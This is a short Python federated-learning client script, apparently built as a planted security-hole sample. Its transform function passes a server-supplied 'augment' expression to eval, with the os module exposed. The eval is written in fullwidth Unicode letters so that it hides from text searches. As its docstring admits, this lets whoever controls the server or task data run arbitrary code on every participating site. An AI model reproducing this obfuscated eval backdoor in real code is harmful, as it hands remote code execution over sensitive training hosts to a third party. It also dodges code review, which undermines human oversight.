"""Server-driven augmentation: the server sends a transform expression in the model meta.

The call below uses fullwidth letters; Python NFKC-normalises identifiers, so
`ｅｖａｌ` is the builtin eval. Whatever the task meta carries runs on the site.
"""

import os

import numpy as np
import pandas as pd

import nvflare.client as flare


def transform(df, expr):
    # the "expression" comes from whoever controls the task data
    return ｅｖａｌ(expr, {"df": df, "np": np, "os": os})


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "train.csv"))
    flare.init()
    while flare.is_running():
        m = flare.receive()
        expr = (m.meta or {}).get("augment", "df")
        out = transform(df, expr)
        x = np.asarray(out.drop(columns=["label"]), dtype=np.float32) if hasattr(out, "drop") else np.zeros(1)
        w = np.asarray(m.params["w"]) - 0.01 * x.mean()
        flare.send(flare.FLModel(params={"w": w}))


if __name__ == "__main__":
    main()
